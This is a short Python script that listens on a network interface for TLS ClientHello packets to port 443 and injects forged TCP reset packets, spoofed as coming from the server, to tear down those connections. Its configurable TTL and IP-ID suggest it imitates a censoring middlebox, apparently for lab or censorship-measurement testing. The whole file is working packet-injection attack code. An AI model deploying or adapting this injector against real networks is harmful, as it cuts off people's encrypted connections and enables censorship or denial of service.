"""A box that hears copies: it answers every ClientHello to port 443 with RST in the server's name. inject.py INTERFACE TTL IP-ID; -1: 0 as Linux."""
import socket
import struct
import sys

INTERFACE, TTL, IP_ID = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def reset(server, client, ports, seq, ack):
    # RST and ACK, window 4242.
    fields = (ports[1], ports[0], seq, ack, 5 << 4, 0x14, 4242)
    bare = struct.pack("!HHIIBBHHH", *fields, 0, 0)
    pseudo = server + client + struct.pack("!BBH", 0, 6, len(bare))
    tcp = struct.pack("!HHIIBBHHH", *fields, checksum(pseudo + bare), 0)
    return struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), max(IP_ID, 0), 0x4000, TTL, 6, 0) + server + client + tcp


def main():
    # ETH_P_IP; frames as they come in, before any router looks at their time to live.
    ears = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
    ears.bind((INTERFACE, 0x0800))
    mouth = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    print("listening", flush=True)
    while True:
        ip = ears.recv(65535)[14:]
        header = (ip[0] & 15) * 4
        tcp = ip[header:int.from_bytes(ip[2:4], "big")]
        if ip[9] != 6 or len(tcp) < 20 or tcp[2:4] != b"\x01\xbb":
            continue
        payload = tcp[(tcp[12] >> 4) * 4:]
        if payload[:2] != b"\x16\x03" or payload[5:6] != b"\x01":
            continue
        client, server, ports = ip[12:16], ip[16:20], struct.unpack("!HH", tcp[:4])
        seq, ack = struct.unpack("!II", tcp[4:12])
        mouth.sendto(reset(server, client, ports, ack, (seq + len(payload)) & 0xFFFFFFFF), (socket.inet_ntoa(client), 0))


main()
